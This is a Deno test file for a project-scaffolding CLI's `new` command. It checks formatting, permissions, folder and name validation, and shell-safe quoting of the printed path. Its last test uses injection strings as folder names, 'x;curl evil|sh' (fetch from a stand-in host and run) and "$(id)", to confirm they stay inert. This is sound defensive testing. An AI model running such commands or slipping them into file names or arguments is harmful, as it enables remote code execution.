import { deepStrictEqual, match, strictEqual } from "node:assert";
import { startProgram } from "../_program.ts";
import { cli, deno, inFolder, linkHere } from "./_cli.ts";

// Nothing answers here: the project needs no registry but npm's once the package is in reach.
const env = { JSR_URL: "http://127.0.0.1:1/", DB: "data/app.db" };

Deno.test("`new` makes a project that is formatted, checked and tested", () =>
  inFolder(async (cwd) => {
    const made = await cli(["new", "notes"], { cwd });
    deepStrictEqual(made, {
      code: 0,
      stdout: "Made notes. Next: cd notes && deno task dev\n",
      stderr: "",
    });
    const project = `${cwd}/notes`;
    const { imports } = JSON.parse(await Deno.readTextFile(`${project}/deno.json`));
    match(imports["@fasthtml/fasthtml"], /^jsr:@fasthtml\/fasthtml@\^\d+\.\d+\.\d+$/);
    match(await Deno.readTextFile(`${project}/README.md`), /^# notes\n/);
    match(await Deno.readTextFile(`${project}/Dockerfile`), /^ENV DENO_ENV=production /m);

    for (const args of [["fmt", "--check"], ["lint"]]) {
      const { code, stderr } = await deno(args, { cwd: project });
      strictEqual(code, 0, stderr);
    }
    await linkHere(project);
    for (const args of [["check", "."], ["task", "test"]]) {
      const { code, stdout, stderr } = await deno(args, { cwd: project, env });
      strictEqual(code, 0, stdout + stderr);
    }
  }));

Deno.test("`new`'s start task needs only its narrow permissions, and keeps data and secret in data/", () =>
  inFolder(async (cwd) => {
    await cli(["new", "notes"], { cwd });
    await linkHere(`${cwd}/notes`);
    {
      await using program = await startProgram(["task", "start"], { cwd: `${cwd}/notes`, env });
      const body = new URLSearchParams({ text: "Buy milk" });
      const headers = { "hx-request": "true", connection: "close" };
      const added = await fetch(`${program.origin}/add`, { method: "POST", body, headers });
      strictEqual(await added.text(), "<li>Buy milk</li>");
      await program.end("SIGTERM");
    }
    strictEqual((await Deno.stat(`${cwd}/notes/data/app.db`)).isFile, true);
  }));

Deno.test("`new` leaves a folder alone that has something in it, and rejects odd names", () =>
  inFolder(async (cwd) => {
    await Deno.mkdir(`${cwd}/mine`);
    await Deno.writeTextFile(`${cwd}/mine/main.ts`, "mine");
    const name = (name: string) =>
      `its name is "${name}", expected letters, digits, "_", and "-" and "." between them, ` +
      'as in "my-notes"';
    for (
      const [folder, message] of [
        ["mine", '"main.ts" is in mine, expected it empty'],
        ["a/../mine", '"main.ts" is in a/../mine, expected it empty'],
        [".", '"mine" is in ., expected it empty'],
        ["a b", name("a b")],
        ["x/a:b", name("a:b")],
        ["dot.", name("dot.")],
        [".git", name(".git")],
        ["x/.config", name(".config")],
        ["node_modules", name("node_modules")],
        ["-x", name("-x")],
        ["--help", name("--help")],
        ["/", name("")],
      ]
    ) {
      deepStrictEqual(await cli(["new", "--", folder!], { cwd }), {
        code: 1,
        stdout: "",
        stderr: `Cannot make a project: ${message}\n`,
      });
    }
    deepStrictEqual([...Deno.readDirSync(cwd)].map(({ name }) => name), ["mine"]);
    deepStrictEqual([...Deno.readDirSync(`${cwd}/mine`)].map(({ name }) => name), ["main.ts"]);
  }));

Deno.test("`new .` makes the project here, in a repository too, under the folder's name", () =>
  inFolder(async (folder) => {
    const cwd = `${folder}/notes`;
    await Deno.mkdir(`${cwd}/.git`, { recursive: true });
    deepStrictEqual(await cli(["new", "."], { cwd }), {
      code: 0,
      stdout: "Made notes. Next: deno task dev\n",
      stderr: "",
    });
    match(await Deno.readTextFile(`${cwd}/README.md`), /^# notes\n/);
  }));

Deno.test("`new` prints the folder so that a shell takes it as it is", () =>
  inFolder(async (cwd) => {
    for (const parent of ["x;curl evil|sh", "-it's $(id)"]) {
      const { stdout } = await cli(["new", "--", `${parent}/ok`], { cwd });
      const [, command] = /Next: (.*) && deno task dev\n$/.exec(stdout)!;
      const { stdout: there } = await new Deno.Command("sh", {
        args: ["-c", `${command} && pwd`],
        cwd,
      }).output();
      strictEqual(new TextDecoder().decode(there), `${cwd}/${parent}/ok\n`);
    }
  }));
